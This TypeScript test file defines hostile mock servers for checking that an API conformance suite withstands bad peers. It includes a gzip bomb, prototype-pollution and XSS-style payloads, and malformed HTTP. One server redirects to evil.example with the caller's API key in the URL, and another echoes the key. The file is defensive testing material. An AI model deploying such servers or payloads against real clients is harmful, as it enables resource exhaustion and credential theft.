/** Every peer that hangs, lies or attacks, and the true report of a run against it. */
import { createServer } from 'node:http';
import { createServer as createTlsServer } from 'node:https';
import { gzipSync } from 'node:zlib';
import { generate } from 'selfsigned';
import { payloadOf, readInt64 } from '../../src/reference/behaviour.ts';
import type { Call, Reply } from '../../src/reference/call.ts';
import { type Change, inAnswers, onReply } from '../../src/reference/changes.ts';
import { startReference } from '../../src/reference/server.ts';
import type { RequiredId, RequirementId } from '../../src/spec/catalogue.ts';
import { breakingOffOn, silentOn } from '../changes.ts';
import {
  bytesPeer,
  changedPeer,
  type Expected,
  type HostilePeer,
  hostileKey,
  httpPeer,
  listening,
  type Running,
  rawPeer,
} from './peer.ts';

/** How a peer starts, what a run must come to, and what differs from the settings of the lab. */
type Row = readonly [
  start: HostilePeer['start'],
  expected: Expected,
  more?: Pick<HostilePeer, 'settings' | 'only'>,
];
/** Peers by their ids, which say what they do. */
type Rows = Readonly<Record<string, Row>>;

const conforms: Expected = { verdict: 'conformant' };
const fails = (...ids: readonly RequiredId[]): Expected => ({
  verdict: 'non-conformant',
  fails: ids,
});
/** A run that ends early, says why, and accuses nobody. */
const ends = (mostRequests: number, says?: RegExp): Expected => ({
  verdict: 'incomplete',
  alone: true,
  mostRequests,
  ...(says ? { says } : {}),
});

/** Seconds for a request: what is answered at all is answered soon, and more where requirements must pass. */
const impatient = { settings: { timeout: 0.5 } } as const;
const patient = { settings: { timeout: 1 } } as const;
const noAnswer = /no complete answer within/;

/** Writes one header field letter by letter, without end. */
const dripping = rawPeer(({ socket }) => {
  socket.write('HTTP/1.1 200 OK\r\nX-Wait: ');
  const timer = setInterval(() => socket.write('a'), 50);
  socket.once('close', () => clearInterval(timer));
});
const hangingOn = (which: (call: Call) => boolean) => changedPeer(silentOn(which));

const silent: Rows = {
  always: [rawPeer(() => {}), ends(2, noAnswer), impatient],
  'drips-its-head': [dripping, ends(2, noAnswer), impatient],
  'one-operation': [
    hangingOn(({ operation }) => operation === 'getPet'),
    {
      ...fails('get.found', 'get.not-found'),
      alone: true,
      passes: ['list.limit', 'create.created', 'create.invalid-body', 'rate.remaining-falls'],
      says: /getPet left several requests in a row without a response/,
    },
    patient,
  ],
  'on-gaps': [
    hangingOn(
      ({ operation, petId, body, query }) =>
        (operation === 'getPet' && readInt64(petId) === undefined) ||
        body.length > 5_000 ||
        ['101', 'abc'].includes(query.get('limit') ?? ''),
    ),
    conforms,
    patient,
  ],
  'every-fourth-time': [
    hangingOn(({ sequence }) => sequence % 4 === 0),
    {
      verdict: 'incomplete',
      alone: true,
      says: /were lost on requests without an answer; allowed are 7\.5 s, 30 times --timeout/,
    },
    { settings: { timeout: 0.25 } },
  ],
};

/** Lists with another text as their body. */
const lists = (change: (text: string) => string | Buffer) =>
  changedPeer(
    inAnswers('listPets', 200, (reply) => ({
      ...reply,
      text: change(payloadOf(reply).toString()),
    })),
  );
/** Something behind the opening bracket. */
const padded = (padding: Buffer) => (text: string) =>
  Buffer.concat([Buffer.from(text.slice(0, 1)), padding, Buffer.from(text.slice(1))]);
const megabyte = 1024 * 1024;

/** 300 MB of spaces in 300 kB: a file of gzip may have many members (RFC 1952, section 2.2). */
const bomb: Change = (base) => {
  const member = gzipSync(Buffer.alloc(3 * megabyte, ' '));
  const members = Array.from({ length: 100 }, () => member);
  return inAnswers('listPets', 200, (reply) => {
    const text = payloadOf(reply).toString();
    return {
      ...reply,
      headers: { ...reply.headers, 'Content-Encoding': 'gzip' },
      text: Buffer.concat([gzipSync(text.slice(0, 1)), ...members, gzipSync(text.slice(1))]),
    };
  })(base);
};

/** What lists decide, and what must not be affected by them. */
const aboutLists: readonly RequirementId[] = [
  'list.returns-pets',
  'list.default-limit',
  'list.status-filter',
  'list.shows-animals',
  'list.unique-ids',
  'create.created',
  'create.invalid-body',
];
const listsOnly = { only: aboutLists };

/** Longer than the suite reads: nothing is said about it. */
const unread: Expected = {
  verdict: 'incomplete',
  alone: true,
  passes: ['create.created', 'create.invalid-body'],
  says: /longer than the 2 MiB that the suite reads/,
};
const tooMany: Expected = {
  verdict: 'incomplete',
  says: /far more values than a page of animals/,
};
/** The list is not a list: that requirement fails, and those that need a list stay open. */
const noList: Expected = { ...fails('list.returns-pets'), alone: true };

const bodies: Rows = {
  'gzip-bomb': [changedPeer(bomb), unread, listsOnly],
  'a-million-values': [
    lists(() => `[${'1,'.repeat(900_000)}1]`),
    { ...unread, ...tooMany },
    listsOnly,
  ],
  'cut-off': [lists((text) => text.slice(0, -1)), noList],
  'no-utf8': [lists(padded(Buffer.from('{"name":"\xe9","id":1},', 'latin1'))), noList],
  prototype: [
    lists((text) =>
      text.replaceAll('{"id":', '{"__proto__":{"id":"x"},"constructor":1,"toString":2,"id":'),
    ),
    conforms,
  ],
  'control-characters': [
    lists(() => '"\\u001b[2J \\ud800 \\u202e </script><script>alert(1)</script> ]]> {{7*7}}"'),
    noList,
  ],
};

const ok = 'HTTP/1.1 200 OK\r\n';

const emptyList = `${ok}Content-Type: application/json\r\nContent-Length: 2\r\n\r\n[]`;
const notHttp: Readonly<Record<string, string | Buffer>> = {
  ssh: 'SSH-2.0-OpenSSH_9.6\r\n',
  'control-character': `${ok}X-A: a\0b\r\n\r\n`,
  'two-lengths': `${ok}Content-Length: 2\r\nContent-Length: 9\r\n\r\n[]`,
};

const wire: Rows = {
  'resets-always': [
    rawPeer(({ socket }) => void socket.resetAndDestroy()),
    ends(2, /the connection was reset|closed before a whole answer/),
  ],
  'breaks-off-in-each-body': [
    changedPeer(breakingOffOn(() => true)),
    ends(2, /closed before a whole answer|no answer to GET/),
  ],
  ...Object.fromEntries(
    Object.entries(notHttp).map(([id, bytes]): [string, Row] => [
      `no-http-${id}`,
      [bytesPeer(bytes), ends(2, /not HTTP|no answer to GET/)],
    ]),
  ),
  'answers-twice': [
    bytesPeer(`${emptyList}${emptyList}`),
    fails('auth.missing-key', 'rate.limit-header'),
  ],
};

/** A service that gives the same status to everything. */
const always = (status: number, headers: Readonly<Record<string, string>> = {}) =>
  httpPeer((_, response) => {
    response.writeHead(status, {
      'Content-Type': 'application/json',
      'X-RateLimit-Limit': '60',
      'X-RateLimit-Remaining': '59',
      'X-RateLimit-Reset': String(Math.ceil(Date.now() / 1000) + 1),
      ...headers,
    });
    response.end(JSON.stringify({ code: 'broken', message: 'Broken.', status }));
  });

/** Redirects some calls to another server, which must never be contacted. */
const redirecting = (which: (call: Call) => boolean) => async (): Promise<Running> => {
  let contacts = 0;
  const target = await listening(
    createServer((_, response) => {
      contacts += 1;
      response.end('[]');
    }),
  );
  const Location = `${target.baseUrl}/pets`;
  const redirected = (reply: Reply, call: Call): Reply =>
    which(call) ? { status: 307, headers: { ...reply.headers, Location } } : reply;
  const peer = await startReference({ apiKey: hostileKey, change: onReply(redirected) });
  return {
    baseUrl: peer.baseUrl,
    close: async () => {
      await Promise.all([peer.close(), target.close()]);
    },
    complaint: () => (contacts > 0 ? `the redirect was followed ${contacts} times` : undefined),
  };
};
const redirectingWithKey = httpPeer((request, response) => {
  const key = request.headers.authorization?.replace('Bearer ', '') ?? '';
  response.writeHead(302, { Location: `https://evil.example/?key=${key}`, 'X-Key': key });
  response.end(key);
});
const echoing: Change = ({ finish, show }) => ({
  show: (animal, call) => ({ ...Object(show(animal, call)), note: call.headers.authorization }),
  finish: (reply, call) => {
    const { headers, ...rest } = finish(reply, call);
    const key = call.headers.authorization ?? '';
    return { ...rest, headers: { ...headers, 'X-Echo': key, [`X-${key.length}`]: key } };
  },
});
const stops = (mostRequests: number, says: RegExp): Expected => ({
  verdict: 'incomplete',
  says,
  mostRequests,
});

const answers: Rows = {
  '500-always': [
    always(500),
    { ...stops(3, /answered 500 to the configured key/), verdict: 'non-conformant' },
  ],
  '503-with-a-date': [always(503, { 'Retry-After': '3600' }), fails('auth.missing-key')],
  '401-always': [always(401), stops(1, /answered 401 to the configured key/)],
  '429-for-a-day': [always(429, { 'Retry-After': '86400' }), stops(2, /asks to wait 86400 s/)],
  '429-always': [always(429, { 'Retry-After': '0' }), stops(4, /may get the key banned/)],
  'redirects-to-another-host': [redirecting(() => true), stops(1, /redirects \(307\) to /)],
  'redirects-with-the-key': [redirectingWithKey, stops(1, /redirects \(302\) to .*\[API key\]/)],
  'echo-the-key': [changedPeer(echoing), conforms],
};

/** An https service with a certificate of its own, which ends so many days from now. */
const certified =
  (name: string, days: number, isTrusted: boolean) => async (): Promise<Running> => {
    const day = 86_400_000;
    const altName = /^[\d.]+$/.test(name)
      ? ({ type: 7, ip: name } as const)
      : ({ type: 2, value: name } as const);
    const { cert, private: key } = await generate([{ name: 'commonName', value: name }], {
      notBeforeDate: new Date(Date.now() - 30 * day),
      notAfterDate: new Date(Date.now() + days * day),
      extensions: [
        { name: 'basicConstraints', cA: true },
        { name: 'subjectAltName', altNames: [altName] },
      ],
    });
    const server = createTlsServer({ cert, key }, (_, response) => response.end('[]'));
    const running = await listening(server, 'https');
    return isTrusted ? { ...running, settings: { ca: cert } } : running;
  };

/** Answers everything alike, as what stands where the service was expected. */
const site = (status: number, type: string, text: string) =>
  httpPeer((_, response) => response.writeHead(status, { 'Content-Type': type }).end(text));
const underAnotherPath = async (): Promise<Running> => {
  const running = await startReference({ apiKey: hostileKey });
  return { ...running, baseUrl: running.baseUrl.replace(/v1$/, 'api/v1') };
};
const wrongAddress = /see that the address is right/;

const addresses: Rows = {
  'expired-certificate': [certified('127.0.0.1', -1, true), ends(2, /certificate has expired/)],
  'self-signed-certificate': [
    certified('127.0.0.1', 30, false),
    ends(2, /self-signed; name it with --ca/),
  ],
  'page-everywhere': [
    site(200, 'text/html', '<!doctype html><h1>Welcome</h1>'),
    ends(2, wrongAddress),
  ],
  'wrong-prefix': [underAnotherPath, ends(12, /nothing is at .*: all is answered 404/)],
};

/** Every peer that hangs, lies or attacks. */
export const hostilePeers: readonly HostilePeer[] = Object.entries({
  silent,
  bodies,
  wire,
  answers,
  addresses,
}).flatMap(([group, rows]) =>
  Object.entries(rows).map(([name, [start, expected, more]]) => ({
    id: `${group}.${name}`,
    start,
    expected,
    ...more,
  })),
);
